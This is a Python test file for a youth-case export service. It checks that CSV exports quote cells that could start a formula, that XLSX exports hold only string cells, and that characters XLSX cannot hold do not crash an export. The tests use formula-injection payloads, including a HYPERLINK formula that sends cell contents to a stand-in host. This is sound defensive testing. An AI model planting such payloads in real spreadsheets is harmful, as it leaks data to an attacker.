"""Issue 11 §1 on a real store: `export cases` never writes a working formula (CSV: the
OWASP quote; XLSX: string cells only), and a row with characters XLSX cannot hold never
makes an export fail."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from ret_desk.db.models import Youth
from ret_desk.services.cases import exporter, importer
from tests.db.test_import_export import GOOD, second, write_csv

HYPERLINK = '=HYPERLINK("http://x?"&A1,"klik")'


def _two_cases(store, coordinator, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "in.csv", [GOOD, second()])
    assert importer.import_cases(uow=store.uow(), actor=coordinator, path=path).written == 2


def _set_youth(store, number: int, **values: str) -> None:
    """Put a value in the store as an older version (or a direct edit) could have left it."""
    with store.uow() as uow:
        youths = uow.session.scalars(select(Youth).order_by(Youth.id)).all()
        for key, value in values.items():
            setattr(youths[number], key, value)
        uow.commit()


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_a_poisoned_row_never_makes_an_xlsx_export_fail(store, coordinator, tmp_path):
    # Given a youth whose name holds NUL (PostgreSQL cannot hold NUL either) and other
    # characters XLSX cannot hold
    _two_cases(store, coordinator, tmp_path)
    nul = "\x00" if store.is_sqlite else "\x1f"
    _set_youth(store, 0, family_name=f"Dijk{nul}stra\x01", given_name="Fen\x0bna")
    # When the cases are exported to XLSX, twice (before the fix every later export crashed)
    for name in ("een.xlsx", "twee.xlsx"):
        assert exporter.export_cases(uow=store.uow(), actor=coordinator, path=tmp_path / name) == 2
    # Then each character XLSX cannot hold shows as U+FFFD, and the rest is kept
    rows = list(load_workbook(tmp_path / "twee.xlsx", read_only=True).active.iter_rows(values_only=True))
    assert rows[1][2:4] == ("Dijk\ufffdstra\ufffd", "Fen\ufffdna")
    assert not list(tmp_path.glob("*.deel"))


def test_xlsx_holds_text_never_a_formula(store, coordinator, tmp_path):
    _two_cases(store, coordinator, tmp_path)
    _set_youth(store, 0, family_name=HYPERLINK, given_name="+31 6 12345678")
    _set_youth(store, 1, family_name="-5", given_name="@SUM(A1)")
    out = tmp_path / "uit.xlsx"
    exporter.export_cases(uow=store.uow(), actor=coordinator, path=out)
    xml = _sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml
    # every cell is a string cell (inline or shared), none a formula or a number
    types = set(re.findall(r'<c [^>]*?t="(\w+)"', xml))
    assert types <= {"inlineStr", "s"}, types
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert [r[2:4] for r in rows[1:]] == [(HYPERLINK, "+31 6 12345678"), ("-5", "@SUM(A1)")]


def test_csv_cells_that_could_start_a_formula_get_a_quote(store, coordinator, tmp_path):
    _two_cases(store, coordinator, tmp_path)
    _set_youth(store, 0, family_name=HYPERLINK, given_name="\tTab")
    _set_youth(store, 1, family_name="'t Hart", given_name="\rCr")
    out = tmp_path / "uit.csv"
    exporter.export_cases(uow=store.uow(), actor=coordinator, path=out)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert (rows[0]["achternaam"], rows[0]["voornaam"]) == ("'" + HYPERLINK, "'\tTab")
    assert (rows[1]["achternaam"], rows[1]["voornaam"]) == ("'t Hart", "'\rCr")
    # the dates and codes around them are written as they were
    assert rows[0]["aanmelddatum"] == "03-11-2026" and rows[1]["gemeente"] == "GM0119"
